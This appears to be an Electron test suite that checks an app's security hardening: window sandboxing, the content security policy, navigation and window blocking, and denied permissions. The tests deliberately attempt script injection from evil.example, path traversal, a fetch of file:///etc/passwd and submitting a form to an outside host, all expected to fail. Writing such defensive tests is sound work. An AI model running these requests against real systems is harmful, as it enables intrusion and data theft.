import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { foreignAddresses, unannouncedAddresses } from '../electron/foreign-addresses.ts';
import { buildConsole, launchConsole, waitFor, type LaunchedConsole } from './launch-console.ts';

/** What the page of the fake console offers to tests. */
interface Probe {
  ports: MessagePort[];
  closed: boolean[];
  reports: string[];
}
declare const probe: Probe;

let launched: LaunchedConsole;
const consoleLines: string[] = [];

beforeAll(async () => {
  await buildConsole('fake');
  launched = await launchConsole({ program: 'fake', env: { ELECTRON_ENABLE_SECURITY_WARNINGS: '1' } });
  launched.page.on('console', (line) => consoleLines.push(line.text()));
});
afterAll(() => launched?.close());

/** Lines of the log in which the window was refused something. */
function refusals(): string[] {
  return launched
    .output()
    .split('\n')
    .filter((line) => line.includes('tried to'));
}

describe('every window', () => {
  it('runs sandboxed and isolated, without Node, web views or relaxed security', async () => {
    const preferences = await launched.app.evaluate(({ webContents }) =>
      webContents
        .getAllWebContents()
        .map((contents) =>
          (
            contents as unknown as { getLastWebPreferences(): Record<string, unknown> }
          ).getLastWebPreferences(),
        ),
    );
    expect(preferences.length).toBeGreaterThan(0);
    for (const each of preferences) {
      expect(each).toMatchObject({
        sandbox: true,
        contextIsolation: true,
        nodeIntegration: false,
        webSecurity: true,
      });
      expect(each['webviewTag'] ?? false).toBe(false);
      expect(each['nodeIntegrationInSubFrames'] ?? false).toBe(false);
      expect(each['nodeIntegrationInWorker'] ?? false).toBe(false);
      expect(each['allowRunningInsecureContent'] ?? false).toBe(false);
      expect(each['experimentalFeatures'] ?? false).toBe(false);
    }
  });

  it('shows a page that has no Node', async () => {
    const kinds = await launched.page.evaluate(() => {
      const all = globalThis as unknown as Record<string, unknown>;
      return ['require', 'process', 'Buffer', 'module', 'global', 'electron', '__dirname'].map(
        (name) => typeof all[name],
      );
    });
    expect(new Set(kinds)).toEqual(new Set(['undefined']));
  });

  it('gives its page exactly the globals of a page without preload', async () => {
    await launched.app.evaluate(async ({ BrowserWindow }) => {
      await new BrowserWindow({ show: false }).loadURL('app://opsdeck/clean.html');
    });
    const find = () => launched.app.windows().find((page) => page.url().endsWith('clean.html'));
    await waitFor(() => find() !== undefined, 'the clean window');
    const clean = find() ?? launched.page;
    const list = () => {
      const names: string[] = [];
      for (let at: object | null = globalThis; at !== null; at = Object.getPrototypeOf(at) as object | null) {
        names.push(...Reflect.ownKeys(at).map(String));
      }
      return names.sort();
    };
    const [ours, theirs] = [await launched.page.evaluate(list), await clean.evaluate(list)];
    await clean.close();
    // What is left comes from the page's own script: its test probe and a mark of the contract library.
    const own = ours.filter((name) => !theirs.includes(name) && !name.startsWith('Symbol(__@orpc/client'));
    expect(own).toEqual(['probe']);
    expect(theirs.filter((name) => !ours.includes(name))).toEqual([]);
  });
});

describe('the content security policy', () => {
  it('comes with every response, with a nonce that is used once', async () => {
    const responses = await launched.page.evaluate(async () => {
      const script = document.querySelector('script')?.getAttribute('src') ?? '';
      const requests: Array<[string, RequestInit?]> = [
        ['/console.html'],
        ['/console.html'],
        ['/clean.html'],
        [new URL(script, location.href).pathname],
        ['/missing.html'],
        ['/..%2f..%2fpackage.json'],
        ['/console.html', { method: 'POST', body: 'x' }],
      ];
      return Promise.all(
        requests.map(async ([path, init]) => {
          const answer = await fetch(path, init);
          const names = ['content-security-policy', 'x-content-type-options', 'access-control-allow-origin'];
          return {
            status: answer.status,
            headers: names.map((name) => answer.headers.get(name)),
            text: await answer.text(),
          };
        }),
      );
    });
    const nonces = responses.map(({ headers }) => {
      const [policy, sniff, cors] = headers;
      expect(sniff).toBe('nosniff');
      expect(cors).toBeNull();
      const nonce = /'nonce-([A-Za-z0-9+/=]{24})'/.exec(policy ?? '')?.[1] ?? 'none';
      expect(policy?.replace(nonce, 'N')).toBe(
        "default-src 'none'; script-src 'self'; style-src 'self' 'nonce-N'; media-src 'self'; img-src 'self' data:; font-src 'self'; connect-src 'self'; frame-src 'none'; object-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
      );
      return nonce;
    });
    expect(new Set(nonces).size).toBe(responses.length);
    expect(responses.map(({ status }) => status)).toEqual([200, 200, 200, 200, 404, 404, 404]);
    expect(responses[0]?.text).toContain(`content="${nonces[0]}"`);
    expect(responses[0]?.text).not.toContain('__CSP_NONCE__');
    expect(responses[5]?.text).not.toContain('devDependencies');
  });

  it('stops inline, evaluated, data and remote code, styles, images, frames, forms and bases', async () => {
    const outcome = await launched.page.evaluate(async () => {
      probe.reports.length = 0;
      const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html);
      const run = (set: (script: HTMLScriptElement) => void) => {
        const script = document.createElement('script');
        set(script);
        document.body.append(script);
      };
      run((script) => (script.textContent = 'window.trap = "inline"'));
      run((script) => (script.src = 'data:text/javascript,window.trap="data"'));
      run((script) => (script.src = 'https://evil.example/x.js'));
      run((script) => (script.src = URL.createObjectURL(new Blob(['window.trap="blob"']))));
      add('<img src="x" onerror="window.trap=\'handler\'">');
      add('<img src="https://evil.example/x.png">');
      add(
        '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.trap=1</script>"></iframe>',
      );
      add('<object data="https://evil.example/x"></object><embed src="https://evil.example/x">');
      add('<style>body { --trap: 1 }</style><base href="https://evil.example/">');
      add('<form action="https://evil.example/" id="bad"><input name="a"></form>');
      (document.getElementById('bad') as HTMLFormElement).requestSubmit();
      const refused: string[] = [];
      await new Promise<void>((resolve) =>
        setTimeout(() => {
          // Outside the debugger's own evaluation, where the policy would not count.
          // oxlint-disable-next-line no-eval, no-new-func, typescript/no-implied-eval -- these have to be refused
          for (const attempt of [() => (0, eval)('1'), () => new Function('return 1')()]) {
            try {
              attempt();
            } catch (error) {
              refused.push((error as Error).name);
            }
          }
          resolve();
        }),
      );
      for (const attempt of [
        () => fetch('https://evil.example/'),
        () => fetch('file:///etc/passwd'),
        () => new Promise((_, reject) => (new WebSocket('wss://evil.example').onerror = reject)),
        // oxlint-disable-next-line typescript/no-unnecessary-type-assertion -- else TypeScript looks for the module
        () => import(/* @vite-ignore */ 'https://evil.example/m.js' as string),
      ]) {
        await Promise.resolve()
          .then(attempt)
          .catch(() => refused.push('refused'));
      }
      await new Promise((resolve) => setTimeout(resolve, 500));
      return {
        trap: (window as unknown as { trap?: string }).trap ?? null,
        style: getComputedStyle(document.body).getPropertyValue('--trap'),
        base: document.baseURI,
        refused,
        directives: [...new Set(probe.reports.map((report) => report.split(' ')[0]))].sort(),
      };
    });
    expect(outcome.trap).toBeNull();
    expect(outcome.style).toBe('');
    expect(outcome.base).toBe('app://opsdeck/console.html');
    expect(outcome.refused).toEqual(['EvalError', 'EvalError', 'refused', 'refused', 'refused', 'refused']);
    for (const directive of [
      'script-src-elem',
      'script-src',
      'script-src-attr',
      'style-src-elem',
      'img-src',
      'connect-src',
      'frame-src',
      'object-src',
      'base-uri',
      'form-action',
    ]) {
      expect(outcome.directives).toContain(directive);
    }
  });
});

describe('a page that wants out', () => {
  /** Sets the address from a task of its own, as a script of the page would. */
  const go = (address: string) =>
    launched.page.evaluate((to) => {
      setTimeout(() => {
        window.location.href = to;
      });
    }, address);

  it('stays where it is for each of the foreign addresses', async () => {
    const left: string[] = [];
    launched.page.on('framenavigated', (frame) => left.push(frame.url()));
    const mark = await launched.page.evaluate(() => ((window as unknown as { mark: number }).mark = 7));
    for (const address of foreignAddresses) {
      await go(address);
      await new Promise((resolve) => setTimeout(resolve, 60));
    }
    expect(left).toEqual([]);
    expect(await launched.page.evaluate(() => (window as unknown as { mark: number }).mark)).toBe(mark);
    expect(await launched.page.evaluate(() => document.title)).toBe('Opsdeck');
    expect(refusals().length).toBeGreaterThan(20);
    expect(refusals().filter((line) => line.includes('foreign'))).toEqual([]);
  });

  it('is brought back, with a port, from where nobody can stop it', async () => {
    for (const address of unannouncedAddresses) {
      await launched.page.evaluate(() => ((window as unknown as { mark: string }).mark = 'before'));
      await go(address);
      await waitFor(
        async () =>
          launched.page.url() === 'app://opsdeck/console.html' &&
          (await launched.page
            .evaluate(() => !('mark' in window) && probe.ports.length === 1)
            .catch(() => false)),
        `the return from ${address}`,
      );
    }
  });

  it('opens no other window', async () => {
    const count = () => launched.app.evaluate(({ webContents }) => webContents.getAllWebContents().length);
    const before = await count();
    const opened = await launched.page.evaluate(() => [
      window.open('https://evil.example/'),
      window.open('app://opsdeck/console.html'),
      window.open('about:blank'),
      window.open(''),
    ]);
    expect(opened).toEqual([null, null, null, null]);
    await launched.page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<a id="blank" target="_blank" href="https://evil.example/">a</a>' +
          '<form id="form" target="_blank" action="app://opsdeck/clean.html"></form>',
      );
      (document.getElementById('form') as HTMLFormElement).requestSubmit();
    });
    await launched.page.click('#blank');
    await launched.page.click('#blank', { button: 'middle' });
    await launched.page.evaluate(() =>
      document.body.insertAdjacentHTML('beforeend', '<webview src="app://opsdeck/clean.html"></webview>'),
    );
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(await count()).toBe(before);
  });

  it('is granted no permission', async () => {
    const states = await launched.page.evaluate(async () => {
      const names = [
        'notifications',
        'geolocation',
        'camera',
        'microphone',
        'clipboard-read',
        'clipboard-write',
        'midi',
        'persistent-storage',
        'screen-wake-lock',
        'storage-access',
        'window-management',
        'local-fonts',
        'idle-detection',
        'accelerometer',
      ];
      const asked = await Promise.all(
        names.map((name) =>
          navigator.permissions.query({ name: name as PermissionName }).then(
            ({ state }) => state,
            () => 'unknown',
          ),
        ),
      );
      const tries = await Promise.all([
        Notification.requestPermission(),
        navigator.mediaDevices.getUserMedia({ audio: true }).then(String, () => 'denied'),
        navigator.mediaDevices.getDisplayMedia().then(String, () => 'denied'),
        navigator.clipboard.readText().then(String, () => 'denied'),
        new Promise((resolve) =>
          navigator.geolocation.getCurrentPosition(
            () => resolve('granted'),
            () => resolve('denied'),
          ),
        ),
      ]);
      return { asked, tries };
    });
    expect(states.asked.filter((state) => state === 'granted')).toEqual([]);
    expect(states.asked.filter((state) => state === 'denied').length).toBeGreaterThan(8);
    expect(states.tries).toEqual(['denied', 'denied', 'denied', 'denied', 'denied']);
  });
});

describe('the session', () => {
  it('has asked for nothing outside app: although the page tried', () => {
    expect(refusals().filter((line) => line.includes('foreign'))).toEqual([]);
  });

  it('cancels a foreign request even when no policy of a page stands before it', async () => {
    const failure = await launched.app.evaluate(async ({ net }) =>
      net.fetch('http://127.0.0.1:9/').then(
        () => 'answered',
        (error: unknown) => (error as Error).message,
      ),
    );
    expect(failure).toContain('ERR_BLOCKED_BY_CLIENT');
  });

  it('gives Electron nothing to warn about', async () => {
    // Earlier tests took the window to places that deserve a warning.
    consoleLines.length = 0;
    await launched.page.reload();
    await new Promise((resolve) => setTimeout(resolve, 1500));
    expect(consoleLines.filter((line) => line.includes('Electron Security Warning'))).toEqual([]);
    // The same ears hear the warning of a window that deserves one.
    const warned = await launched.app.evaluate(async ({ BrowserWindow }) => {
      const bad = new BrowserWindow({ show: false, webPreferences: { webSecurity: false } });
      const lines: string[] = [];
      bad.webContents.on('console-message', (...details: unknown[]) =>
        lines.push(JSON.stringify(details.slice(1))),
      );
      await bad.loadURL('app://opsdeck/clean.html');
      await new Promise((resolve) => setTimeout(resolve, 1000));
      bad.destroy();
      return lines.join('\n');
    });
    expect(warned).toContain('Electron Security Warning');
  });
});

it('waits are honest: a check that never holds fails', async () => {
  const short = { exitCode: 0 } as never;
  await expect(waitFor(() => false, 'nothing', short)).rejects.toThrow('in vain');
});
